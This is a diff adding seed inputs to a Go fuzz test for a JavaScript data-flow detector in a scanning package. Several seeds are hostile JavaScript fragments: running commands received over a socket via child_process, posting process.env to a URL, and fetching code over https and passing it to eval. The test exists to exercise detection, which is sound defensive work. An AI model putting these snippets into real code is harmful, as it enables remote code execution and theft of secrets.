@@ -126,6 +126,8 @@ func FuzzJSFlow(f *testing.F) {
 	f.Add([]byte("String.fromCharCode(99,104,105)\n['a','b'].join('')\n'x'.split('').reverse().join('')\n"))
 	f.Add([]byte("const {exec: run} = await import('node:child_process'); io(u).on('c', m => run(m))"))
 	f.Add([]byte("function f(){ return {...process.env} }\nfetch(u, {body: JSON.stringify(f())})\n/* unterminated"))
+	f.Add([]byte("if (true) /\"/.test(\"x\"); https.get(u, r => { let b = ''; r.on('end', () => eval(b)) }); const q = \"/\";\n"))
+	f.Add([]byte("label: { } /'/; o = {a: {}} /'/; for (;;) /`/; x = y ) /'/ ; '\\\r\n'\n"))
 	d := scan.JSFlowDetector{}
 	f.Fuzz(func(t *testing.T, data []byte) {
 		checkFindings(t, data, d.Detect(&scan.File{Path: "x.js", Data: data}))
